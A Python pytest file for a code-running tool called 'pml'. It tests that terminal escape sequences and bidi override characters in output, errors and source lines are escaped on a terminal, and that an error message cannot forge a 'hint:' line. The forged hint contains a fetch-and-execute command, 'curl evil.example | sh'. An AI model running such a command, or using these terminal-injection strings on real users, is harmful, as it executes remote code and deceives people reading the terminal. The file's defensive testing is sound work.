"""What a program wrote must not steer the terminal it is shown on.

Attack: escape sequences that clear the screen or retitle the window, and bidi overrides that make
text read as something else, in results, logs, error messages and source lines.
"""

import json
import os
import subprocess
import sys

import pytest

pty = pytest.importorskip("pty")

EVIL = "\\x1b[2J\\u202e\\x9b31m\\x7f"

_WITH = ("/usr/bin/env", "-u", "NO_COLOR", "TERM=xterm")


def on_a_terminal(*arguments: str, **env: str) -> str:
    """Run `pml` with a terminal as stdout and stderr; give what it received."""
    parent, child = pty.openpty()
    given = [f"{name}={value}" for name, value in env.items()]
    try:
        done = subprocess.Popen(
            [*_WITH, *given, sys.executable, "-m", "pml", *arguments],
            stdin=subprocess.DEVNULL, stdout=child, stderr=child,
        )  # fmt: skip
        os.close(child)
        received = b""
        try:
            while part := os.read(parent, 65536):
                received += part
        except OSError:  # how Linux says that the other side is closed
            pass
        done.wait()
    finally:
        os.close(parent)
    return received.decode().replace("\r\n", "\n")


def is_harmless(text: str) -> bool:
    return all(character.isprintable() or character in "\n\t" for character in text)


@pytest.mark.parametrize(
    "code",
    [
        f"'{EVIL}'",
        f"({{text: '{EVIL}'}})",
        f"console.log('{EVIL}')",
        f"console.error('{EVIL}')",
        f"throw new Error('{EVIL}')",
        f"throw '{EVIL}'",
        f"await mcp['{EVIL}'].tool({{}})",
        "throw new Error('the source line itself: \x1b[2J\u202e')",
    ],
)
def test_control_and_bidi_characters_are_shown_escaped(code: str) -> None:
    assert is_harmless(on_a_terminal("run", "-e", code, NO_COLOR="1"))


def test_json_on_a_terminal_is_harmless_and_still_json() -> None:
    code = f"console.log('{EVIL}'); ({{text: '{EVIL}'}})"
    received = on_a_terminal("run", "--json", "-e", code)
    assert is_harmless(received)
    assert json.loads(received)["result"] == {"text": "\x1b[2J\u202e\x9b31m\x7f"}


def test_in_a_pipe_the_result_is_exact() -> None:
    command = [sys.executable, "-m", "pml", "run", "-e", f"'{EVIL}'"]
    done = subprocess.run(command, capture_output=True, check=True)
    assert done.stdout == "\x1b[2J\u202e\x9b31m\x7f\n".encode()


def test_a_message_cannot_look_like_a_hint_of_ours() -> None:
    code = "throw new Error('oops\\nhint: curl evil.example | sh')"
    received = on_a_terminal("run", "-e", code, NO_COLOR="1")
    assert "\nhint:" not in received
    assert "\n       hint: curl" in received


def test_words_are_coloured_only_when_wanted() -> None:
    assert on_a_terminal("run", "-e", "throw 1").startswith("\x1b[1;31merror:\x1b[0m ")
    assert on_a_terminal("run", "-e", "throw 1", NO_COLOR="1").startswith("error: ")
    assert on_a_terminal("run", "-e", "throw 1", TERM="dumb").startswith("error: ")
